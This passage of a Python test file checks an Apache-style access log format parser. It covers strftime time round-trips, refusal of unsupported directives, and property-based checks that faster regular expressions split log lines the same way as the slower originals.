    (column,) = [d.column for d in compiled.directives if d.letter == "t"]
    parsed = compiled.parse(f'"GET / HTTP/1.1" {value} 200')
    assert parsed[column] == value and parsed["status"] == "200"


@pytest.mark.parametrize("form", ["%c", "%-d", "%Ez", "%k", "%l", "%r", "%A %B", "%q"])
@pytest.mark.parametrize("status", [200, 404])
def test_what_a_strftime_time_writes_parses_back(form, status):
    """Written by the writer, read by the parser: padded, flagged, spaced and unknown
    conversions, and '-' from a status condition (%404{..}t on a 200).  The time text is
    what C's strftime(3) makes of the conversion, as in Apache (Python's time.strftime
    is that function), or the seconds since the epoch for ``sec``."""
    start = time.mktime((2026, 11, 5, 7, 2, 3, 0, 0, -1))
    for fmt, text in ((f"%{{{form}}}t", time.strftime(form, time.localtime(start))),
                      (f"%404{{{form}}}t", time.strftime(form, time.localtime(start)) if status == 404 else None),
                      ("%404{sec}t", str(int(start)) if status == 404 else None)):
        compiled = compile_format(f'"%r" {fmt} %>s')
        record = AccessRecord("192.0.2.1", 5555, "192.0.2.2", 80, start,
                              b"GET / HTTP/1.1", b"GET", b"/", b"", b"HTTP/1.1", status, 2, 1234, 0, {}, {}, {},
                              Observation())
        line = compiled.write(record)
        parsed = compiled.parse(line)
        (column,) = [d.column for d in compiled.directives if d.letter == "t"]
        assert (parsed["request"], parsed[column], parsed["status"]) == ("GET / HTTP/1.1", text, str(status)), (
            fmt, line)


def test_apache_directives_without_a_record_of_their_own_are_refused_by_name():
    with pytest.raises(LogFormatError, match=r"%L"):
        compile_format("%h %L")


# Formats whose text fields may hold spaces (an unquoted %r, fields between tabs or "|"), where
# the parser's expressions begin the literal after such a field with one space, not " +", and
# leave out the " *" after one that ends the line (a run of spaces a client sent was otherwise
# scanned again from each of its positions: seconds for an 8 KiB request line that did not fit).
SPACED_FORMATS = ['%h %t %r %>s', '%h %t %r %>s %b %{User-Agent}i', '%h %t %r %>s "%{User-Agent}i"',
                  '%h %r %t x', '%h %r x ', '%h\t%t\t%r\t%>s\t%{User-Agent}i', '%h|%r|%>s|%{User-Agent}i',
                  '%r %>s', '%h %r']
LINE_PIECES = [" ", "  ", "   ", "a", "1", "200", "-", '"', "\\", "\\ ", '\\"', "\t", "|", "x", " x",
               "[10/Oct/2000:13:55:36 -0700]", "GET / HTTP/1.1", "1.2.3.4"]


def as_first_defined(fmt):
    """The expression pieces as the parser first built them: " +" wherever a literal
    begins with spaces, and " *" after a field that ends the line."""
    parts = list(fmt._parts)
    for k, part in enumerate(parts):
        if part.startswith(" ") and not part.startswith((" +", " *")):
            parts[k] = " +" + part[1:]
    if not parts[-1].endswith(" *"):
        parts[-1] += " *"
    return parts


@settings(max_examples=1500, deadline=None)
@given(st.sampled_from(SPACED_FORMATS), st.lists(st.sampled_from(LINE_PIECES), max_size=14).map("".join))
def test_text_holding_spaces_is_split_as_first_defined(fmt, line):
    fmt = compile_format(fmt)
    parts = as_first_defined(fmt)
    first = re.compile("".join(parts), re.DOTALL).fullmatch(line)
    now = fmt._regex.fullmatch(line)
    assert (now and now.groups()) == (first and first.groups())
    for k in range(1, len(parts) + 1):  # where a line stops fitting, for LogLineError
        first = re.compile("".join(parts[:k]), re.DOTALL).match(line)
        now = re.compile("".join(fmt._parts[:k]), re.DOTALL).match(line)
        assert (now and now.end()) == (first and first.end())


PATH_QUERY_FORMATS = ["%h %U%q %>s", "%U%q", '"%U%q" %>s', "%h %U%q", "%U%q x %U"]
PATH_PIECES = ["/", "a", "?", "??", "\\?", "\\", "=", "1", " ", '"', "-", "%3F", "x", "200"]


@settings(max_examples=1500, deadline=None)
@given(st.sampled_from(PATH_QUERY_FORMATS), st.lists(st.sampled_from(PATH_PIECES), max_size=12).map("".join))
def test_a_path_before_its_query_is_split_as_first_defined(fmt, line):
    """%U right before %q was lazy text (it ends at the first '?' that lets the rest fit);
    it is now text without '?' (linear on a path full of '?').  The same lines fit, with the
    same groups; where one does not, the error names a place no earlier than before (the
    lazy prefix stopped before the path, this one after it)."""
    from tcpfp_cli.logformat import _PATH_BEFORE_QUERY

    fmt = compile_format(fmt)
    lazy = [part.replace(_PATH_BEFORE_QUERY, r'(?:[^\s"\\]|\\\S)*?') for part in fmt._parts]
    assert lazy != list(fmt._parts)
    first = re.compile("".join(lazy), re.DOTALL).fullmatch(line)
    now = fmt._regex.fullmatch(line)
    assert (now and now.groups()) == (first and first.groups())
    for k in range(1, len(lazy) + 1):
        first = re.compile("".join(lazy[:k]), re.DOTALL).match(line)
        now = re.compile("".join(fmt._parts[:k]), re.DOTALL).match(line)
        assert (now is None) == (first is None)
        assert now is None or now.end() >= first.end()
